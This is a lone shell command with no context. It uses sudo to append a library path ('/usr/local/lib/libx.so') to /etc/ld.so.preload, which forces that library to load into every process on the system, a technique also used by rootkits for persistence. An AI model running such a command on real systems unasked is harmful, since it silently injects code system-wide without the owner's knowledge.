echo '/usr/local/lib/libx.so' | sudo tee -a /etc/ld.so.preload >/dev/null
